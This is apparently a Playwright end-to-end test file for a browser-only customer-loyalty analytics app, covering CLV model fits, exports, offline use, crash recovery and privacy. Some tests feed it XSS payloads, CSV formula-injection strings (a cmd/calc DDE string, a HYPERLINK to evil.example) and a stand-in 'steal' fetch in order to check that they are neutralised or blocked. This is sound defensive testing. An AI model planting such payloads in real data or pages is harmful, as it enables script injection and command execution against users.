  // a fraction of a second here, so the cancel is clicked from the page the moment the progress
  // shows; whatever the run had already sent back must not reach the screen.
  await page.evaluate(() => {
    const observer = new MutationObserver(() => {
      const cancel = document.querySelector('[data-testid="clv-cancel"]');
      if (cancel) {
        observer.disconnect();
        cancel.click();
        window.__cancelClicked = true;
      }
    });
    observer.observe(document.body, { childList: true, subtree: true });
  });
  await page.getByTestId('tab-clv').click();
  await page.waitForFunction(() => window.__cancelClicked === true, null, { timeout: TIMEOUT });
  await page.getByTestId('clv-run').waitFor({ timeout: 60_000 });
  // Long enough for a result posted before the cancel reached the worker to have arrived.
  await page.waitForTimeout(1500);
  assert.equal(await page.getByTestId('clv-models').count(), 0, 'a cancelled run shows no results, and the page does not fit again on its own');
  assert.equal(await page.getByTestId('clv-progress').count(), 0);
  // The default split is the classic one for CDNOW: calibration to 1997-09-30, holdout to 1998-06-30.
  assert.equal(await page.getByTestId('clv-calibration').inputValue(), '1997-09-30');
  assert.equal(await page.getByTestId('clv-holdout').inputValue(), '1998-06-30');
  await page.getByTestId('clv-run').click();
  await page.getByTestId('clv-models').waitFor({ timeout: 120_000 });
  const models = await page.getByTestId('clv-models').textContent();
  // Fader, Hardie & Lee (2005): r = 0.243, α = 4.414, a = 0.793, b = 2.426.
  assert.match(models, /r = 0\.2426/);
  assert.match(models, /α = 4\.4136/);
  assert.match(models, /a = 0\.7929/);
  assert.match(models, /b = 2\.4259/);
  assert.match(models, /Pareto\/NBD.*r = 0\.5533/);
  assert.match(models, /p = 6\.2496.*q = 3\.7442.*γ = 15\.44/);
  await expectText(page, 'clv-list-total', '2,357');
  await page.getByTestId('clv-by-frequency').waitFor();
  await page.getByTestId('clv-tracking').waitFor();
  await page.getByTestId('clv-palive-matrix').waitFor();
  await page.getByTestId('clv-expected-matrix').waitFor();
  assert.match(await page.getByTestId('clv-error-pct').textContent(), /^−?-?\d+\.\d%$/);
  // Sorted by P(alive): the first customer is the most likely to be active.
  await page.getByTestId('clv-sort').selectOption('p_alive');
  await page.waitForFunction(() => /100\.0%/.test(document.querySelector('[data-testid="clv-table"] tbody tr td:nth-child(6)')?.textContent ?? ''), null, { timeout: TIMEOUT });
  const [download] = await Promise.all([page.waitForEvent('download'), page.getByTestId('clv-export').click()]);
  const lines = (await readFile(await download.path(), 'utf8')).replace(/^\uFEFF/, '').trim().split(/\r?\n/);
  assert.equal(lines[0], 'customer_id,frequency,recency,T,monetary_value,p_alive,expected_purchases,expected_value,clv,holdout_actual,holdout_expected');
  assert.equal(lines.length, 2358);
  // The predictions by group: every customer in one pyramid tier, the shares of CLV adding up, and
  // the CLV column summing to the exported customers' (rounded to the cent per group).
  const groups = await page.getByTestId('clv-groups-table').locator('tbody tr').evaluateAll((trs) => trs.map((tr) => [...tr.querySelectorAll('td')].map((td) => td.textContent)));
  const number = (x) => Number(x.replace(/[,%]/g, ''));
  assert.equal(groups.reduce((a, r) => a + number(r[0]), 0), 2357);
  assert.ok(Math.abs(groups.reduce((a, r) => a + number(r[3]), 0) - 100) < 0.5);
  const clvColumn = lines[0].split(',').indexOf('clv');
  const exported = lines.slice(1).reduce((a, l) => a + (Number(l.split(',')[clvColumn]) || 0), 0);
  assert.ok(Math.abs(groups.reduce((a, r) => a + number(r[2]), 0) - exported) < 0.01 * groups.length, `${exported}`);
  assert.match(await page.getByTestId('clv-multiple').textContent(), /\d+\.\d× … \d+\.\d×/);
  // Predicted CLV now ranks the loyalty pyramid.
  await page.getByTestId('tab-pyramid').click();
  const rfmMultiple = await page.getByTestId('multiple-0').textContent();
  await page.getByTestId('pyramid-measure').selectOption('clv');
  await page.getByTestId('pyramid-apply').click();
  await page.waitForFunction((before) => document.querySelector('[data-testid="multiple-0"]')?.textContent !== before, rfmMultiple, { timeout: TIMEOUT });
  assert.equal(await page.getByTestId('pyramid-measure').inputValue(), 'clv');
  assert.equal(await page.getByTestId('pyramid-error').count(), 0);
  const sizes = await page.getByTestId('pyramid-table').locator('tbody tr').evaluateAll((trs) => trs.map((tr) => tr.querySelectorAll('td')[1].textContent));
  assert.deepEqual(sizes, ['118', '707', '1,532']);
  assert.deepEqual(requests.slice(before).filter((u) => !u.startsWith('blob:')), []);
  assert.deepEqual(errors, []);
  await context.close();
});

test('hostile cell contents are text everywhere, and exported CSV cannot run formulas', async () => {
  const { context, page, errors } = await openApp();
  const dialogs = [];
  page.on('dialog', async (d) => {
    dialogs.push(d.message());
    await d.dismiss();
  });
  await upload(page, 'hostile.csv');
  await expectText(page, 'ov-customers', '6');
  const literal = ['<img src=x onerror=alert(1)>', '"><script>alert(2)</script>', '<svg onload=alert(3)>'];
  const seen = new Set();
  for (const tab of ['overview', 'data', 'segments', 'lifecycle', 'nps', 'pyramid', 'clv']) {
    await page.getByTestId(`tab-${tab}`).click();
    await page.waitForTimeout(200);
    if (tab === 'segments') {
      await page.getByTestId('all-customers').click();
      await expectText(page, 'list-total', '6');
    }
    const text = await page.evaluate(() => document.body.innerText + [...document.querySelectorAll('title')].map((t) => t.textContent).join(' '));
    for (const l of literal) if (text.includes(l)) seen.add(l);
    // Markup from the file never became elements or handlers.
    const injected = await page.evaluate(() => ({
      handlers: document.querySelectorAll('[onerror], [onload], [onclick]').length,
      images: [...document.querySelectorAll('img')].filter((i) => i.getAttribute('src') === 'x').length,
      scripts: [...document.querySelectorAll('script')].filter((s) => /alert/.test(s.textContent)).length,
      bold: document.querySelectorAll('main b').length,
    }));
    assert.deepEqual(injected, { handlers: 0, images: 0, scripts: 0, bold: 0 }, `on the ${tab} page`);
  }
  assert.deepEqual([...seen].sort(), [...literal].sort(), 'every hostile value is shown as the text it is');
  // The customer list exported as CSV: formula-looking ids get a leading ', plain text stays.
  await page.getByTestId('tab-segments').click();
  await page.getByTestId('all-customers').click();
  await expectText(page, 'list-total', '6');
  const [download] = await Promise.all([page.waitForEvent('download'), page.getByTestId('export-customers').click()]);
  const csv = (await readFile(await download.path(), 'utf8')).replace(/^\uFEFF/, '');
  const rows = parseCsv(csv);
  const ids = rows.slice(1).map((r) => r[0]);
  assert.deepEqual(ids.sort(), [
    '"><script>alert(2)</script>',
    "'+cmd|' /C calc'!A0",
    "'-2+3",
    "'=HYPERLINK(\"http://evil.example/\",\"click\")",
    "'@SUM(A1:A9)",
    '<img src=x onerror=alert(1)>',
  ].sort());
  // No field of any row starts a formula; numbers are plain numbers.
  for (const row of rows) {
    for (const field of row) assert.ok(!/^[=+@\t\r-]/.test(field) || /^-?\d+(\.\d+)?$/.test(field), `exported field ${JSON.stringify(field)}`);
  }
  assert.deepEqual(dialogs, []);
  assert.deepEqual(errors, []);
  await context.close();
});

test('privacy: the policy is in force; after the upload nothing is requested, nothing goes elsewhere, nothing is stored', async () => {
  const { context, page, requests, errors } = await openApp();
  const all = [];
  context.on('request', (r) => all.push(r.url()));
  const policy = await page.evaluate(() => document.querySelector('meta[http-equiv="Content-Security-Policy"]')?.content ?? '');
  for (const d of ["default-src 'none'", "connect-src 'self'", "style-src 'self'", "base-uri 'none'", "form-action 'none'"]) assert.ok(policy.includes(d), `${d} in ${policy}`);
  assert.doesNotMatch(policy, /'unsafe-inline'|'unsafe-eval'|https?:|\*/);
  // Loaded means: the service worker holds the app's files for offline use.
  await page.evaluate(() => navigator.serviceWorker.ready.then(() => true));
  const served = server.log.length;
  const before = requests.length;
  const allBefore = all.length;

  await upload(page, 'cdnow/CDNOW_sample.txt');
  await expectText(page, 'ov-customers', '2,357');
  await page.getByTestId('survey-input').setInputFiles(fixture('survey_cdnow_gbk.csv'));
  await expectText(page, 'nps-responses', '625');
  const save = async (testid) => {
    const [d] = await Promise.all([page.waitForEvent('download'), page.getByTestId(testid).click()]);
    assert.ok((await readFile(await d.path())).length > 0, testid);
  };
  // Every page and every kind of export.
  await page.getByTestId('tab-overview').click();
  await save('ov-export-pyramid-svg');
  await save('ov-export-pyramid-png');
  await page.getByTestId('tab-data').click();
  // (The survey has no rejected rows any more: the rejected-rows download is exercised, with its
  // request log, by the bad-rows test.)
  await page.getByTestId('data-survey').click();
  await page.getByTestId('tab-segments').click();
  await page.getByTestId('segment-bar-0').click();
  await expectText(page, 'list-total', '533');
  for (const format of ['utf8', 'gbk', 'xlsx']) {
    await page.getByTestId('export-format').selectOption(format);
    await save('export-customers');
  }
  await page.getByTestId('tab-lifecycle').click();
  await page.getByTestId('transition-matrix').waitFor({ timeout: TIMEOUT });
  await page.getByTestId('tab-nps').click();
  await page.getByTestId('nps-trend').waitFor({ timeout: TIMEOUT });
  await page.getByTestId('tab-pyramid').click();
  await page.getByTestId('pyramid-tier-0').click();
  await save('export-customers');
  await page.getByTestId('tab-clv').click();
  await page.getByTestId('clv-models').waitFor({ timeout: 120_000 });
  await save('clv-export');
  await page.getByTestId('tab-overview').click();
  await page.getByTestId('clear').click();
  await page.getByTestId('file-input').waitFor({ state: 'attached' });

  // The browser's own request log and the server's: nothing after the upload but in-page blob: URLs.
  assert.deepEqual(requests.slice(before).filter((u) => !u.startsWith('blob:')), []);
  assert.deepEqual(all.slice(allBefore).filter((u) => !u.startsWith('blob:')), []);
  assert.deepEqual(server.log.slice(served), []);
  assert.deepEqual([...requests, ...all].filter((u) => !u.startsWith(base) && !u.startsWith('blob:')), [], 'no request to another origin, ever');

  // Nothing about customers is stored: settings in localStorage (the language, the tour dismissed), no cookies, no IndexedDB, and
  // the only cache is the service worker's copy of the app's own files.
  const dist = new Set(['', ...(await readdir(join(repo, 'dist')))]);
  const stored = await page.evaluate(async () => ({
    local: Object.keys(localStorage),
    session: Object.keys(sessionStorage),
    cookie: document.cookie,
    idb: (await indexedDB.databases()).map((d) => d.name),
    cached: (await Promise.all((await caches.keys()).map(async (k) => (await (await caches.open(k)).keys()).map((r) => r.url)))).flat(),
  }));
  assert.ok(stored.local.every((k) => ['loyalty-lens.lang', 'loyalty-lens.tour'].includes(k)), `localStorage: ${stored.local}`);
  assert.deepEqual(stored.session, []);
  assert.equal(stored.cookie, '');
  assert.deepEqual(stored.idb, []);
  assert.deepEqual(await context.cookies(), []);
  assert.ok(stored.cached.length > 0, 'the app is cached for offline use');
  for (const url of stored.cached) {
    assert.ok(url.startsWith(base) && dist.has(url.slice(base.length)), `cached: ${url}`);
  }
  assert.deepEqual(errors, []);
  await context.close();
});

test('privacy: a request to another origin is refused by the policy', async () => {
  const { context, page, violations } = await openApp('en-US', { expectViolations: true });
  const result = await page.evaluate(async () => {
    const seen = [];
    document.addEventListener('securitypolicyviolation', (e) => seen.push(e.effectiveDirective));
    const fetched = await fetch('http://127.0.0.2:9/steal?id=1').then(() => 'sent', (e) => e.name);
    const img = await new Promise((resolve) => {
      const i = new Image();
      i.onload = () => resolve('loaded');
      i.onerror = () => resolve('blocked');
      i.src = 'http://127.0.0.2:9/pixel.gif';
    });
    await new Promise((r) => setTimeout(r, 100));
    return { fetched, img, seen };
  });
  assert.equal(result.fetched, 'TypeError');
  assert.equal(result.img, 'blocked');
  assert.ok(result.seen.includes('connect-src') && result.seen.includes('img-src'), JSON.stringify(result.seen));
  assert.ok(violations.length >= 2, 'the browser reported the refusals');
  await context.close();
});

test('works offline after the first load', async () => {
  const { context, page } = await openApp();
  await page.evaluate(() => navigator.serviceWorker.ready.then(() => true));
  await context.setOffline(true);
  const served = server.log.length;
  await page.reload();
  await page.locator('[data-worker="ready"]').waitFor({ state: 'attached', timeout: TIMEOUT });
  assert.equal(await page.evaluate(() => Boolean(navigator.serviceWorker.controller)), true, 'the page came from the service worker');
  await upload(page, 'gbk_orders.csv');
  await expectText(page, 'customers', '4');
  assert.deepEqual(server.log.slice(served), [], 'offline: the server saw nothing');
  await context.close();
});

test('a crashed worker is replaced and the app stays usable; a crash on the page shows a way back', async () => {
  {
    const { context, page } = await openApp('en-US', { hash: '#crash-test=worker' });
    await page.getByTestId('error').waitFor({ timeout: TIMEOUT });
    assert.match(await page.getByTestId('error-message').textContent(), /internal error and was restarted/);
    await page.locator('[data-worker="ready"]').waitFor({ state: 'attached', timeout: TIMEOUT });
    await upload(page, 'gbk_orders.csv');
    await expectText(page, 'customers', '4');
    await context.close();
  }
  {
    const { context, page } = await openApp('zh-CN', { hash: '#crash-test=ui' });
    await page.getByTestId('crash').waitFor({ timeout: TIMEOUT });
    assert.match(await page.getByTestId('crash').textContent(), /页面遇到内部错误.*crash requested by #crash-test=ui/s);
    await page.getByTestId('crash-reload').click();
    await page.locator('[data-worker="ready"]').waitFor({ state: 'attached', timeout: TIMEOUT });
    assert.equal(await page.getByTestId('crash').count(), 0);
    await upload(page, 'gbk_orders.csv');
    await expectText(page, 'customers', '4');
    await context.close();
  }
});

test('every file of the broken-file corpus gets its clear message or its rejected rows, and the app keeps working', async () => {
  const { context, page, errors } = await openApp();
  const expected = JSON.parse(await readFile(fixture('bad/expected.json'), 'utf8'));
  delete expected._doc;
  const completed = () => page.evaluate(() => Number(document.querySelector('.app').dataset.completed));
  const problems = [];
  for (const [file, want] of Object.entries(expected)) {
    const before = await completed();
    await upload(page, `bad/${file}`);
    await page.waitForFunction((n) => Number(document.querySelector('.app').dataset.completed) > n, before, { timeout: TIMEOUT });
    if (want.error) {
      const shown = await page.evaluate(() => document.querySelector('[data-testid="error-message"]')?.textContent ?? '(no error shown)');
      if (!shown.includes(want.message)) problems.push(`${file}: shown '${shown}', want '${want.message}'`);
    } else {
      await page.getByTestId('tab-data').click();
      await page.getByTestId('rows-accepted').waitFor({ timeout: TIMEOUT });
      const accepted = (await page.getByTestId('rows-accepted').textContent()).trim();
      if (accepted !== String(want.accepted)) problems.push(`${file}: ${accepted} rows accepted, want ${want.accepted}`);
      if (want.rejected.length > 0) {
        const count = await page.evaluate(() => document.querySelector('[data-testid="rejected-count"]')?.textContent.trim());
        if (count !== String(want.rejected.length)) problems.push(`${file}: ${count} rows rejected, want ${want.rejected.length}`);
        const listed = await page.getByTestId('rejected').textContent();
        for (const [, column] of want.rejected) if (!listed.includes(column)) problems.push(`${file}: rejected rows do not name ${column}`);
      }
    }
  }
  assert.deepEqual(problems, []);
  // Still usable, with the same worker: a good file is read as usual.
  assert.equal(await page.getByTestId('crash').count(), 0);
  await upload(page, 'gbk_orders.csv');
  await expectText(page, 'customers', '4');
  assert.deepEqual(errors, []);
  await context.close();
});

test('no Content-Security-Policy violation in any test above', () => {
  assert.deepEqual(cspViolations, []);
});
